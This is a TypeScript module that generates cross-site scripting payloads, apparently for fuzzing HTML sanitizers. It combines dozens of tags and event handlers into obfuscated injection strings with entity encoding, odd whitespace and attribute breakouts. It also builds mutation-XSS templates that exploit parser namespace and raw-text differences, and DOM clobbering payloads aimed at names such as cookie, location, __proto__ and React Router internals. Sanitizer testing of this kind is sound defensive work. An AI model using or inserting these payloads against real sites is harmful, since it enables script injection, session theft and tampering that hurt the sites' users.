import { coded, type Make, words } from "./text-makers.ts";

/** Elements × events, rotating through the ways to write a handler. */
export function handlers(): Make[] {
  const tags = words(
    "img svg image video audio source track body iframe object embed input button textarea select details summary dialog marquee a p div table td form label keygen math mtext use animate set style link math x-y xss",
  );
  const events = words(
    "onload onerror onclick ondblclick onfocus onfocusin onblur onmouseover onmouseenter onmousemove onpointerover onpointerdown onpointerrawupdate onkeydown oninput onchange ontoggle onbeforetoggle onanimationstart onanimationend ontransitionend onwheel onscroll onscrollend oncopy onpaste ondrag ondrop onbegin onend onrepeat onpageshow onhashchange onmessage onresize onloadstart oncanplay onsubmit onreset oninvalid onsearch onsecuritypolicyviolation onslotchange oncuechange",
  );
  const forms: ((tag: string, event: string, run: string) => string)[] = [
    (tag, event, run) => `<${tag} src=x ${event}="${run}" autofocus tabindex=0>x</${tag}>`,
    (tag, event, run) => `<${tag}/${event}=${run} src=x open>`,
    (tag, event, run) => `<${tag}\t${event}\f=\n'${run}' contenteditable style="animation:x 1ms">x</${tag}>`,
    (tag, event, run) => `<${tag} ${event.toUpperCase()}=${coded(run, (code) => `&#${code};`)} src=x>`,
    (tag, event, run) => `"><${tag} ${event}=${run} src=x id=x popover>x`,
    (tag, event, run) => `'><svg><${tag} ${event}='${run}' href=x /></svg>`,
    (tag, event, run) => `<${tag} a="x>" b='"' ${event}=${coded(run, (code) => `&#x${code.toString(16)}`)}>`,
    (tag, event, run) => `</p><${tag} style=content-visibility:auto ${event}="(${run})" src=//x:0>x`,
  ];
  return tags.flatMap((tag, row) =>
    events.map((event, column) => {
      const form = forms[(row * 3 + column) % forms.length] as (typeof forms)[number];
      return (run: string) => form(tag, event, run);
    }),
  );
}

/** What is parsed differently the second time: namespaces, raw text, tables, templates. */
export function mutations(): Make[] {
  const outer = [
    ...words("svg math table select template noscript form p a button ruby object frameset"),
    ...[
      "math><mtext",
      "math><mi",
      "svg><foreignObject",
      "svg><desc",
      "svg><title",
      "table><tr><td",
      "table><caption",
    ],
    ...[
      "math><annotation-xml encoding=text/html",
      "svg><annotation-xml",
      "select><option",
      "template><table",
    ],
  ];
  const inner = words(
    "style title textarea xmp noembed noframes iframe noscript plaintext script mglyph desc",
  );
  return outer.flatMap((around) =>
    inner.flatMap((raw): Make[] => [
      (run) => `<${around}><${raw}><!--</${raw}><img src=x onerror=${run}>--></${raw}>`,
      (run) => `<${around}><${raw}><a id="</${raw}><img src=x onerror=${run}>">x</a></${raw}>`,
      (run) => `<${around}><mglyph><${raw}><![CDATA[</${raw}><svg onload=${run}>]]>`,
    ]),
  );
}

const CLOBBERED = words(
  "attributes children childNodes innerHTML nodeName parentNode firstChild getElementById querySelector querySelectorAll cookie body head documentElement forms images location currentScript __reactRouterContext __reactRouterManifest __reactRouterRouteModules __proto__ constructor prototype toString valueOf hasOwnProperty removeAttribute textContent ownerDocument",
);

/** Names that scripts rely on. */
export function clobbering(): Make[] {
  return CLOBBERED.flatMap((name): Make[] => [
    (run) => `<form id=${name}><input name=${name}><input id=${name} name=x onfocus=${run} autofocus></form>`,
    (run) => `<a id=${name}></a><a id=${name} name=x href="javascript:${run}">x</a>`,
    (run) => `<img name=${name} src=x onerror=${run}><iframe name=${name} srcdoc="<a id=x>"></iframe>`,
    () => name,
    (run) => `{"${name}":{"toString":"${run}"}}`,
  ]);
}
